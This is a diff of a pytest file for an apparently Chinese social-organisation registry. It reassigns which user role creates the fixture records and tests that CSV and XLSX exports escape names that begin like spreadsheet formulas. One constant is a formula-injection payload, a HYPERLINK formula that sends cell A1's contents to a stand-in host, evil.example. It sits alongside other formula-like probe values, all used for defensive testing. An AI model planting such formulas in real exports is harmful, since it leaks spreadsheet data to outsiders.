@@ -23,9 +23,9 @@ HEADERS = ["组织标识", "名称", "统一社会信用代码", "管理方式",
 @pytest.fixture
 def orgs(cast):
     return {
-        "elderly": make_registered(cast["county"], name="兴宁区老年协会", categories=["life_service", "charity"],
+        "elderly": make_registered(cast["registrar"], name="兴宁区老年协会", categories=["life_service", "charity"],
                                    service_targets=["elderly"], contact_phone="13812345678"),
-        "dance": make_filed(cast["county"], name="北宁社区广场舞队", division="450102001004"),
+        "dance": make_filed(cast["street"], name="北宁社区广场舞队", division="450102001004"),
         "foreign": make_filed(cast["superuser"], name="新竹社区老年协会", division=FOREIGN_COMMUNITY),
     }
 
@@ -101,7 +101,7 @@ FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
 
 @pytest.mark.parametrize("name", [FORMULA_NAME, "+兴宁区老年协会", "-1+2 协会", "@SUM(A1) 协会"])
 def test_a_name_that_begins_like_a_formula_is_exported_to_csv_as_text(cast, login, name):
-    make_filed(cast["county"], name=name, contact_name="=1+1")
+    make_filed(cast["street"], name=name, contact_name="=1+1")
     rows = read_csv(login(cast["county"]).get(EXPORT, {"format": "csv"}))
     names = [r[1] for r in rows[1:]]
     assert names == ["'" + name]
@@ -109,6 +109,6 @@ def test_a_name_that_begins_like_a_formula_is_exported_to_csv_as_text(cast, logi
 
 
 def test_a_name_that_begins_like_a_formula_is_a_text_cell_in_the_xlsx_export(cast, login):
-    make_filed(cast["county"], name=FORMULA_NAME)
+    make_filed(cast["street"], name=FORMULA_NAME)
     rows = read_xlsx(login(cast["county"]).get(EXPORT, {"format": "xlsx"}))
     assert rows[1][1] == FORMULA_NAME
